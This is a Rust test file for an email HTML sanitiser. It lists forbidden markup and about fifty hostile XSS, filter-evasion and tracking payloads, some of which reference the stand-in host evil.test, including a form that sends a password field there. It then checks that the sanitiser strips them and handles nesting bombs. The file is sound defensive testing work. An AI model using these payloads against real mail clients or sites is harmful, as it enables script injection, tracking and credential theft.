//! Hostile and ordinary HTML of mail.

use std::time::Instant;

use super::*;

fn clean(html: &str, remote: Remote) -> Clean {
    sanitise(html, remote, HashMap::from([("logo@x".to_owned(), "parts/2".to_owned())]))
}

/// What a page must not have after cleaning, in lower case.
const FORBIDDEN: [&str; 29] = [
    "<script",
    "javascript",
    "vbscript",
    "onerror",
    "onload",
    "onclick",
    "onmouse",
    "<svg",
    "<math",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<base",
    "<meta",
    "<link",
    "<style",
    "expression(",
    "url(",
    "evil.test",
    "data:text",
    "<video",
    "<audio",
    "srcset",
    "position:",
    "data:image/svg",
    "formaction",
    "xlink",
];

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/p.gif'>",
    "<img src=//evil.test/p.gif>",
    "<img src='/\\evil.test/p.gif'>",
    "<img srcset='https://evil.test/p.gif 1x'>",
    "<img lowsrc='https://evil.test/p.gif' dynsrc='https://evil.test/p.gif'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.test><input name=password><button formaction=//evil.test>",
    "<iframe src=https://evil.test srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "<base href=https://evil.test><meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test)}</style>",
    "<div style='background:url(https://evil.test/p.gif)'>x</div>",
    "<div style='background-image:url(https://evil.test/p.gif)'>x</div>",
    "<div style='background:u\\72l(https://evil.test/p.gif)'>x</div>",
    "<div style='background:url/**/(https://evil.test/p.gif)'>x</div>",
    "<div style='background:image-set(\"https://evil.test/p.gif\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='list-style:url(https://evil.test)'>x</div>",
    "<table background='https://evil.test/p.gif'><td background=https://evil.test/p.gif>x",
    "<body background='https://evil.test/p.gif' onload=alert(1)>x</body>",
    "<video poster=https://evil.test/p.gif src=https://evil.test/v><source src=https://evil.test/v>",
    "<audio src=https://evil.test/a autoplay>",
    "<picture><source srcset=https://evil.test/p.gif><img src=x></picture>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xss onmouseover=alert(1)>x</xss>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<a href=\"https://x.test\" style=\"color:red;}body{background:url(//evil.test)\">x</a>",
    "<img alt=\"`><img src=xx:x onerror=alert(1)//\">",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

#[test]
fn nothing_hostile_is_left() {
    for html in HOSTILE {
        for text in [(*html).to_owned(), format!("<p>before</p>{html}<p>after</p>")] {
            let clean = clean(&text, Remote::Block).html;
            // Only what is markup counts: tags and attributes that are left.
            let tags: String = clean.split('<').skip(1).fold(String::new(), |tags, piece| {
                tags + "<" + piece.split('>').next().unwrap_or("") + ">"
            });
            let tags = tags.replace("&lt;", "").to_lowercase();
            // A title or alt is text.
            let tags = without_texts(&tags);
            for word in FORBIDDEN {
                assert!(!tags.contains(word), "{word} in {clean} of {html}");
            }
        }
    }
}

fn without_texts(tags: &str) -> String {
    let mut out = String::new();
    for (index, piece) in tags.split("title=\"").flat_map(|piece| piece.split("alt=\"")).enumerate()
    {
        out += if index == 0 { piece } else { piece.split_once('"').map_or("", |(_, rest)| rest) };
    }
    out
}

#[test]
fn ordinary_mail_stays_as_it_is() {
    for html in [
        "<p style=\"color:red;margin:0 1px\">Hello <b>Bob</b></p>",
        "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tbody><tr><td align=\"left\">x</td></tr></tbody></table>",
        "<img src=\"data:image/png;base64,AAAA\" alt=\"x\">",
        "<ul><li>one</li></ul><hr><blockquote>q</blockquote>",
    ] {
        assert_eq!(clean(html, Remote::Block).html, html);
    }
    let linked = clean("<a href=\"https://x.test/a?b=1&amp;c=2#d\">x</a>", Remote::Block).html;
    for part in ["href=\"https://x.test/a?b=1&amp;c=2#d\"", "target=\"_blank\"", "noopener"] {
        assert!(linked.contains(part), "{linked}");
    }
}

#[test]
fn images_are_parts_or_asked_for() {
    let html = "<img src=\"cid:logo%40x\"><img src=\"cid:other\"><img src=\"https://x.test/i\">";
    let blocked = clean(html, Remote::Block);
    assert_eq!(blocked.html, "<img src=\"parts/2\"><img><img>");
    assert_eq!(blocked.blocked, 1);
    let loaded = clean(html, Remote::Load);
    assert_eq!(loaded.html, "<img src=\"parts/2\"><img><img src=\"https://x.test/i\">");
    assert_eq!(loaded.blocked, 0);
    assert_eq!(
        from_text("<b>&\"'"),
        "<pre style=\"white-space:pre-wrap\">&lt;b&gt;&amp;&quot;&#39;</pre>"
    );
}

#[test]
fn bombs_take_no_time() {
    for piece in [
        "<b>",
        "<div>",
        "<b><p>",
        "<table><tr><td>",
        "<a href=x><table>",
        "<font><i><div>",
        "&amp;",
        "\n",
        "<",
        "<!--",
        "<div></span>",
        "<b><div></b>",
        "<svg><title><div></title>",
        "<svg><td>",
        "<div><table><td></div>",
        "<p><i></p>",
    ] {
        let html = piece.repeat(2 * MAX_HTML / piece.len());
        let began = Instant::now();
        let clean = clean(&html, Remote::Block);
        assert!(clean.truncated, "{piece}");
        assert!(began.elapsed().as_secs() < 20, "{piece} {:?}", began.elapsed());
    }
}
